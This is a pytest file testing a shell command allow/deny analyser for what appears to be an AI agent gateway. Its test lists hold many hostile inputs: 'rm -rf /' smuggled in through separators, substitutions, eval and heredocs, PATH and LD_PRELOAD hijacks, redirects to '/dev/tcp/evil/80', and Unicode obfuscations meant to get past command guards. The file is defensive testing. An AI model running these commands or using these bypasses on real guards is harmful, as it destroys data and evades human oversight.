"""Command lines under patterns: a long table of tricks, and of what honest agents write."""

from __future__ import annotations

import subprocess
import sys

import pytest
from support.policies import allows, command, denies
from support.tables import table

from everturn_gateway.tools.policy.commands import grammar
from everturn_gateway.tools.policy.commands.analysis import MAX_CHARACTERS, analyse

PATTERNS = ("bash:git *", "bash:ls", "bash:ls *", "bash:echo *", "bash:wc *", "bash:cat *")

HONEST = [
    "git status",
    "  git   status  ",
    "git\tstatus",
    'git "status"',
    "g'i't sta\"tu\"s",
    r"\git status",
    "git status\n",
    "git status;",
    "git status && ls -la",
    "git status&&ls",
    "git status || echo no",
    "ls | wc -l",
    "ls |& wc -l",
    "ls & echo x",
    "git log --oneline -n 5 HEAD~3..HEAD",
    "git show HEAD^",
    "git stash show 'stash@{0}'",
    'git commit -m "it\'s done; rm -rf / is only a text"',
    "git commit -m 'two\nlines'",
    "git add *.py src/[a-c]?.txt",
    'echo $HOME "$USER" ${LANG}',
    'echo $(git status) "$(ls -la)"',
    "echo $(echo $(ls))",
    "cat <(ls a) <(ls b)",
    "ls 2>/dev/null",
    "ls >/dev/null 2>&1 || echo missing",
    "ls &> /dev/null",
    "ls < /dev/null",
    "ls # rm -rf /",
    "# first\nls\n# last",
    "ls a#b",
    "(ls; echo x) | wc -l",
    "{ ls; echo x; }",
    "! git diff --quiet",
    "if git diff; then echo same; elif ls; then ls; else echo other; fi",
    "for f in *.txt a b; do wc -l $f; done",
    "for f in $(ls)\ndo\n  cat $f\ndone",
    "while git fetch; do ls; done",
    "until ls x; do echo y; done",
    "git log \\\n  --oneline",
    "git status \\\n  && ls",
    "echo $'a\\tb' $'\\x41'",
    "echo \\; \\& \\| \\$x \\`",
    "echo {a,b} ~",
    "echo a=b",
    "echo -- '' \"\"",
    "echo größe 漢字 '👍'",
    "echo $",
    'echo "$ 5" 5$',
]


@table("text", HONEST)
def test_what_is_made_of_allowed_commands_is_allowed(text: str) -> None:
    """People give up on a guard that asks about everything."""
    assert allows(text, *PATTERNS), analyse(text).refusal


TRICKS = [
    # something else behind, before, inside
    "git status; rm -rf /",
    "git status;rm -rf /",
    "git status\nrm -rf /",
    "git status\r\nrm -rf /",
    "git status\n\\rm -rf /",  # the grammar alone takes this for one command
    "ls\n\\\\rm -rf /",
    "git status & rm -rf /",
    "git status | sh",
    "git status || rm x",
    "rm -rf / && git status",
    "git status && (rm -rf /)",
    "git status && { rm -rf /; }",
    "git $(rm -rf /)",
    'git "$(rm -rf /)"',
    "git `rm -rf /`",
    'git "`rm -rf /`"',
    "git ${x:-$(rm -rf /)}",
    "git ${x:-`rm -rf /`}",
    "git $((`rm -rf /`))",
    "git $(( $(rm -rf /) ))",
    "git $[ $(rm -rf /) ]",
    "git <(rm -rf /)",
    "git >(rm -rf /)",
    "git <<E\n$(rm -rf /)\nE",
    "git <<< $(rm -rf /)",
    "git status # x\nrm -rf /",
    "git a#b; rm -rf /",
    "if rm -rf /; then git status; fi",
    "if git status; then rm -rf /; fi",
    "while rm -rf /; do ls; done",
    "for f in $(rm -rf /); do ls; done",
    "for f in a; do rm -rf /; done",
    "case x in x) rm -rf /;; esac",
    "! rm -rf /",
    "[[ -n $(rm -rf /) ]]",
    "((x=$(rm -rf /)))",
    # functions, aliases, other names
    "ls() { rm -rf /; }; ls",
    "function ls { rm -rf /; }\nls",
    "ls () (rm -rf /)\nls",
    "git() { ls; }; git status",
    "alias ls='rm -rf /'\nls",
    "hash -p /bin/rm ls; ls -rf /",
    "enable -f ./x.so ls; ls",
    # what runs a command in another way
    "command rm -rf /",
    "builtin eval rm",
    "exec rm -rf /",
    "eval 'git status'",
    "bash -c 'git status'",
    'sh -c "git status"',
    "env git status",
    "sudo git status",
    "xargs git status",
    "nice git status",
    "timeout 5 git status",
    "time git status",
    "coproc git status",
    ". ./git",
    "source git",
    "trap 'rm -rf /' EXIT; git status",
    "find . -exec git status ';'",
    # variables
    "PATH=/tmp/evil git status",
    "LD_PRELOAD=./x.so git status",
    "GIT_SSH_COMMAND='rm -rf /' git fetch",
    "x=1",
    "x=1; git status",
    "PATH=/tmp/evil; git status",
    "a[0]=1 git status",
    "x+=1 git status",
    "export PATH=/tmp/evil; git status",
    "declare x=1",
    "readonly PATH",
    "unset PATH; git status",
    "read PATH; git status",
    "printf -v PATH /tmp; git status",
    "for PATH in /tmp/evil; do git status; done",
    "for http_proxy in evil; do git fetch; done",
    "for ((;;)); do ls; done",
    "for f; do ls; done",
    "for f in a & do ls; done",
    "echo $(ls # x\n)",
    "select x in a; do ls; done",
    # names that are made
    "$X status",
    "${X}",
    '"$X" status',
    "g$@it status",
    "$(echo git) status",
    "`echo git` status",
    "/bin/r? x",
    "g*",
    "{rm,-rf,/}",
    "~/git status",
    "'' status",
    '""',
    # files
    "git status > out.txt",
    "git status >> out.txt",
    "git status >| out.txt",
    "git status 2> out.txt",
    "git status &> out.txt",
    "git status >& out.txt",
    "git status <> x",
    "> out.txt git status",
    "git > out.txt status",
    ">/dev/null git status",
    "git >/dev/null status",
    "git status >/dev/nullx",
    "git status >/dev/null/../x",
    "git status < secret",
    "git status < /dev/tcp/evil/80",
    "git status > /dev/tcp/evil/80",
    "git status 3>&1",
    "git status 1>&3",
    "git status {fd}>x",
    "git status 3>/dev/null",
    "git status >&-",
    "{ git status; } > x",
    "for f in a; do ls; done > x",
    "git <<< text",
    "git <<E\ntext\nE",
    # quoting and characters
    "r''m -rf /",
    'r""m x',
    "\\rm x",
    "$'rm' x",
    "$'\\x72m' x",
    "r\\\nm x",
    "git sta\\\ntus; r\\\nm x",
    "echo '\\\n' # \\\nls",
    "git\u00a0status",
    "git\u2003status",
    "git\u200bstatus",
    "git\x0bstatus",
    "git\x0cstatus",
    "git\rstatus",
    "git \rstatus",
    "ls \\ rm",
    "git st\u0430tus; r\u200bm x",
    "git status \ufeff",
    "git \u202estatus",
    "git '\u202estatus'",
    "git status\u2028rm x",
    "git\0status",
    "git status \ud800",
    "git 'status",
    'git "status',
    "git $'status",
    'git "status`"',
    "git status \\",
    'git $"status"',
    "git $'\\c'",
    "git $'\\0'",
    # what is no command, or none that can be read
    "",
    " ",
    "\n",
    "# only a comment",
    ";",
    "git status &&",
    "&& git status",
    "git status ;; ls",
    "(git status",
    "git status)",
    "{ git status",
    "if git status; then ls",
    "fi",
    "}",
    "git (status)",
    "git=(a b)",
    "git !(x)",
    "time { rm x; }",
    "git status " + "x" * MAX_CHARACTERS,
    "echo " + "$(" * 40 + "ls" + ")" * 40,
]


@table("text", TRICKS)
def test_no_trick_makes_a_pattern_allow_more_than_it_says(text: str) -> None:
    """Each of these would run something that nobody allowed, or might."""
    assert not allows(text, *PATTERNS)


@table(
    ("text", "pattern"),
    [
        ("bash -c 'git status'", "code:bash -c 'git status'"),
        ("env git status", "code:env *"),
        ("xargs git status", "code:xargs git *"),
        ("time git status", "code:time git *"),
        ("[ -f x ]", "bash:[ *"),
        ("[ -f x ] && [ y = z ]", "bash:[ *"),
        ("[ $x = z ]", "code:[ *"),
        ("./run.sh a", "code:./run.sh *"),
        ("pytest -q && git status", "code:*"),
        ('git commit -m "a b"', 'bash:git commit -m "a b"'),
        ("git commit -m 'a b'", "bash:git commit -m 'a b'"),
        ('git commit -m "a b"', "bash:git commit -m 'a b'"),
        ("ls *.py", r"bash:ls \*.py"),
        ("ls '*.py'", r"bash:ls '\*.py'"),
        ("rm -rf build", "*:rm -rf build"),
        ("rm -rf build", "rm -rf build"),
    ],
)
def test_a_command_is_allowed_for_what_it_says_itself(text: str, pattern: str) -> None:
    """An owner who writes it down means it; what runs code has to be said to do so."""
    assert allows(text, pattern, is_sealed=True)
    assert allows(text, pattern) == (not pattern.startswith("code:"))


@table(
    "text",
    [
        "bash -c 'git status'",
        "env git status",
        "./run.sh a",
        "pytest -q",
        "python -c 1",
        "git -c a=b status",
        "find . -exec x {} +",
        "[ $x = z ]",
    ],
)
def test_a_pattern_for_commands_allows_no_code(text: str) -> None:
    """Whatever it says: what runs is decided by files and texts, which a model writes."""
    for pattern in (
        f"bash:{text.replace('*', '')}",
        "bash:*",
        "*",
        f"bash:{text.partition(chr(32))[0]} *",
    ):
        assert not allows(text, pattern, is_sealed=True), pattern


@table(
    ("text", "pattern"),
    [
        ("ls '*.py'", r"bash:ls \*.py"),
        ("ls *.py", r"bash:ls '\*.py'"),
        ("'git status'", "bash:git status"),
        ("git 'commit -m'", "bash:git commit -m"),
        ("echo $x", "bash:echo $x"),
        ("for x in /; do rm $x; done", "bash:rm $x"),
        ('echo "$x"', 'bash:echo "$x"'),
        ("/usr/bin/git status", "bash:git *"),
        ("./git status", "bash:git *"),
        ("git push", "builtin:git push"),
        ("git push", "cli:*"),
        ("git push", "builtin:bash"),
    ],
)
def test_what_only_looks_like_a_pattern_is_not_allowed(text: str, pattern: str) -> None:
    """Quotes, folders and variables make another command of the same letters."""
    assert not allows(text, pattern)


@table("text", ["echo x > y", "f() { ls; }; f", "x=1", "cat <<E\na\nE", "case x in y) ls;; esac"])
def test_everything_means_everything(text: str) -> None:
    """`code:*` is an owner's word that no command needs a question, in the sandbox."""
    assert allows(text, "code:*", is_sealed=True)
    assert allows(text, "code:*", deny=["bash:rm *"], is_sealed=True)
    assert not allows(text, "code:*")
    assert not allows(text, "bash:*", is_sealed=True)
    assert not allows(text, "*", is_sealed=True)


@table(
    ("text", "allow", "deny"),
    [
        ("git pus?", "bash:git *", "bash:git push*"),
        ("git p*", "bash:git *", "bash:git push*"),
        ("git {push,-f}", "bash:git *", "bash:git push*"),
        ("git $X", "bash:git *", "bash:git push*"),
        ('git "$(echo push)"', "bash:*", "bash:git push*"),
        ("rm $X", "bash:rm *", "bash:rm -rf /*"),
        ("$X -rf /", "bash:*", "bash:rm *"),
        ("sudo $X", "bash:sudo *", "bash:rm *"),
        ("/bin/r? -rf /", "bash:*", "bash:rm *"),
        ("if; rm", "bash:*", "bash:reboot"),
        ("x" * (MAX_CHARACTERS + 1), "bash:*", "bash:reboot"),
    ],
)
def test_what_may_turn_out_to_be_denied_is_not_allowed(text: str, allow: str, deny: str) -> None:
    """A file called `push` or a variable must not carry a command past the deny list."""
    assert not allows(text, allow, deny=[deny], is_sealed=True)
    assert not allows(text, allow.replace("bash:", "code:"), deny=[deny], is_sealed=True)


def test_what_cannot_become_a_denied_command_is_allowed() -> None:
    """The rule above must not ask about every star."""
    assert allows("git add -- *.py $X", "bash:git *", deny=["bash:git push*", "bash:*sudo*"])
    assert allows("rm build/*", "bash:rm *", deny=["bash:rm -rf /*"])


DENIED = [
    "rm -rf /",
    "rm  -rf   /",
    " rm -rf /",
    "'rm' -rf /",
    "r''m -rf /",
    'r""m -rf /',
    "\\rm -rf /",
    "r\\m -rf /",
    "$'rm' -rf /",
    "$'\\x72m' -rf /",
    "$'\\162\\155' -rf /",
    "r\\\nm -rf /",
    "rm \\\n-rf /",
    "r$@m -rf /",
    "r${x}m -rf /",
    "$x rm -rf /",
    "{rm,-rf,/}",
    "/bin/rm -rf /",
    "../../bin/rm -rf /",
    "X=1 rm -rf /",
    "X=1 Y=2 /bin/rm -rf /",
    "ls; rm -rf /",
    "ls\nrm -rf /",
    "ls && rm -rf /",
    "ls || rm -rf /",
    "ls & rm -rf /",
    "ls | rm -rf /",
    "(rm -rf /)",
    "{ rm -rf /; }",
    "! rm -rf /",
    "if true; then rm -rf /; fi",
    "while true; do rm -rf /; done",
    "for x in a; do rm -rf /; done",
    "case x in x) rm -rf /;; esac",
    "f() { rm -rf /; }; f",
    "function f { rm -rf /; }",
    "echo $(rm -rf /)",
    'echo "$(rm -rf /)"',
    "echo `rm -rf /`",
    'echo "`rm -rf /`"',
    "echo ${x:-$(rm -rf /)}",
    "echo $(( $(rm -rf /) ))",
    "cat <(rm -rf /)",
    "cat <<E\n$(rm -rf /)\nE",
    "x=$(rm -rf /)",
    "[[ $(rm -rf /) ]]",
    "rm >/dev/null -rf /",
    ">x rm -rf /",
    "rm <x -rf /",
    "rm <<E -rf /\nE",
    "<<<x rm -rf /",
    "sudo rm -rf /",
    "sudo -u root -- rm -rf /",
    "env -i A=1 rm -rf /",
    "nice -n 5 rm -rf /",
    "timeout 5 rm -rf /",
    "xargs -0 rm -rf /",
    "command rm -rf /",
    "exec rm -rf /",
    "time rm -rf /",
    "time { rm -rf /; }",
    "coproc rm -rf /",
    "nohup sudo env rm -rf /",
    "/usr/bin/env /bin/rm -rf /",
    "find . -exec rm -rf / ;",
    "bash -c 'rm -rf /'",
    'bash -c "ls; rm -rf /"',
    "bash -lc 'r\"\"m -rf /'",
    "sh -c \"bash -c 'rm -rf /'\"",
    "sudo sh -c 'ls && rm -rf /'",
    "eval rm -rf /",
    "eval 'rm -rf' /",
    'eval "ls; rm -rf /"',
    "eval eval eval rm -rf /",
    "trap 'rm -rf /' EXIT",
    "ssh host 'rm -rf /'",
    "watch 'rm -rf /'",
    "bash <<< 'rm -rf /'",
    "bash <<E\nrm -rf /\nE",
    "bash <<'E'\nls\nrm -rf /\nE",
    "sudo bash <<E\nrm -rf /\nE",
    # no grammar accepts these; a shell may run a part of them all the same
    "rm -rf /\nif; fi (",
    "ls )\nrm -rf /",
    "rm -rf / '",
    "rm -rf /" + "; ls" * MAX_CHARACTERS,
]


@table("text", DENIED)
def test_what_is_denied_is_seen_however_it_is_written(text: str) -> None:
    """Deny holds in every mode, also where nothing else asks."""
    assert denies(text, "bash:rm -rf /*")


@table(
    "text",
    [
        "git rm x",
        "echo rm -rf x",
        "ls rm",
        "git commit -m 'rm -rf x'",
        "git commit -m 'a; rm x'",
        "cat > notes <<E\nrm -rf x\nE",
        "rmdir x",
        "grep -rn 'rm ' src",
        "# rm -rf x",
        "docker rm x",
    ],
)
def test_what_only_speaks_of_a_denied_command_is_not_denied(text: str) -> None:
    """A deny list that refuses honest work is soon taken out."""
    assert not denies(text, "bash:rm *")


def test_a_deny_pattern_sees_the_whole_line_too() -> None:
    """Owners look for a text anywhere with stars around it, also in what is no command."""
    assert denies("cat > f <<E\nmy password\nE", "*:*password*")
    assert denies("echo x > /etc/passwd", "bash:*> /etc/*")
    assert denies("curl x   |   sh", "bash:curl * | sh")


@table(
    ("text", "pattern"),
    [
        ("git   'status'", "bash:git status"),
        ('echo "a b"', "bash:echo 'a b'"),
        ("ls *.py", r"bash:ls \*.py"),
        ("git show HEAD~2", "bash:git show HEAD~2"),
        ("git status; ls", ""),
        ("git status;", ""),
        ("ls > x", ""),
        ("echo $x", ""),
        ("echo $(ls)", ""),
        ("x=1 ls", ""),
        ("ls 'x", ""),
        ("ls 2>/dev/null", ""),
    ],
)
def test_allow_always_offers_one_exact_command(text: str, pattern: str) -> None:
    """A person who says "always" means this command, not what can be hung onto it."""
    offered = command(text).pattern

    assert offered == pattern
    assert not offered or allows(text, offered)


@table(
    ("text", "words"),
    [
        ("ls > x", "it redirects input or output"),
        ("A=1 ls", "it sets a variable"),
        ("$X", "the name of a command is filled in by the shell"),
        ("ls `x`", "backticks"),
        ("ls\0", "a character that no command can hold"),
        ("ls\u00a0x", "U+00A0"),
        ("ls 'x", "a quote is not closed"),
        ("f() { ls; }", "it defines a function"),
        ("case x in x) ls;; esac", "'case'"),
    ],
)
def test_a_person_reads_why_no_pattern_allows_a_command(text: str, words: str) -> None:
    """Whoever is asked should see at a glance what is unusual about it."""
    assert words in analyse(text).refusal


def test_a_text_that_is_too_much_allows_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    """What was not understood must not pass for what was."""
    # Scripts in scripts are looked into up to a limit; what lies behind it may be denied.
    hidden = "".join(f"bash -c 'ls; echo {number}'; " for number in range(80))

    assert not analyse(hidden).is_clear
    assert not allows(hidden, "code:*", deny=["bash:rm *"], is_sealed=True)
    assert allows(hidden, "code:*", is_sealed=True)

    # A grammar gives up a text that takes too long to parse.
    monkeypatch.setattr(grammar, "_STEPS_LIMIT", 0)
    long = "git status; " * 300

    assert analyse(long).refusal == "it cannot be parsed"
    assert not allows(long, "bash:*", deny=["bash:rm *"])
    assert denies(f"{long}rm x", "bash:rm *")


def test_judging_is_bounded_whatever_the_text() -> None:
    """A command line of any length and depth is read in time, or not at all.

    Without bounds each of these would take minutes, or end the process.
    """
    for piece in (
        "$(",
        "(",
        "[[ (",
        "f() ",
        "{a,{b,",
        "sudo ",
        "<<A ",
        "eval 'eval ",
        "${a:-",
        "`",
    ):
        line = analyse(piece * (MAX_CHARACTERS // len(piece)))

        assert line.refusal or line.commands


def test_the_grammar_is_loaded_with_the_first_command_and_outlives_any_character() -> None:
    """A start does not pay for what no agent uses.

    Its scanner reads memory of others for some characters; in a process of its own, to see it.

    Source: issue 337 of tree-sitter-bash, for version 0.25.1.
    """
    code = (
        "import sys, everturn_gateway.tools.policy as p; before = 'tree_sitter' in sys.modules\n"
        "from everturn_gateway.tools.policy.commands.analysis import analyse\n"
        "analyse('ls'); print(before, 'tree_sitter' in sys.modules)\n"
        "for code in range(128, 0x110000, 1999):\n"
        "    analyse('{' + chr(code)), analyse('ls {' + chr(code) + '..'), analyse(chr(code))"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=60
    )

    assert done.stdout.split() == ["False", "True"]
